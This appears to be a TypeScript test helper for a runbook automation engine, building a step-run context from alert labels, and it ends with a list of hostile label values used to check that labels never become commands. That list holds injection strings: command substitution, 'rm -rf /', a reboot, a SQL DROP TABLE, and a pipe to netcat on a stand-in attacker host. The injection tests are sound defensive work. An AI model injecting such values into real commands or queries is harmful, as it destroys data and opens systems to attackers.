import { systemClock } from '@firebreak/platform';
import { AnyStep } from '../../definitions/step.schemas';
import { TemplateScope } from '../../definitions/template';
import { StepRunContext } from '../../engine/engine.types';
import { runbookOf } from '../../engine/testing/engine-harness';

/** What a step runner is given for one step of a live run of an alert with `labels`. */
export function ctx(
  step: Record<string, unknown>,
  labels: Record<string, string>,
  signal = new AbortController().signal,
  timeoutMs = 5_000,
): StepRunContext {
  const parsed = runbookOf({ steps: [{ id: 's', ...step }] }).steps[0] as AnyStep;
  const scope: TemplateScope = {
    alert: { labels, annotations: {} },
    context: {},
    params: {},
    steps: {},
    execution: { id: 'e', mode: 'live', runbookId: 'r', trigger: 'alert' },
    vars: {},
  };
  return {
    step: parsed,
    scope,
    signal,
    timeoutMs,
    execution: { id: 'e', requestId: 'q', runbookId: 'r', mode: 'live', trigger: 'alert', severity: 'critical' },
    attempt: 1,
    clock: systemClock,
  };
}

/** Label values that are commands, SQL or options if they ever leave the data they are. */
export const HOSTILE = ['$(id)', '; rm -rf /', '`reboot`', "'; DROP TABLE x; --", '| nc evil.example.com 4444', '-rf'];
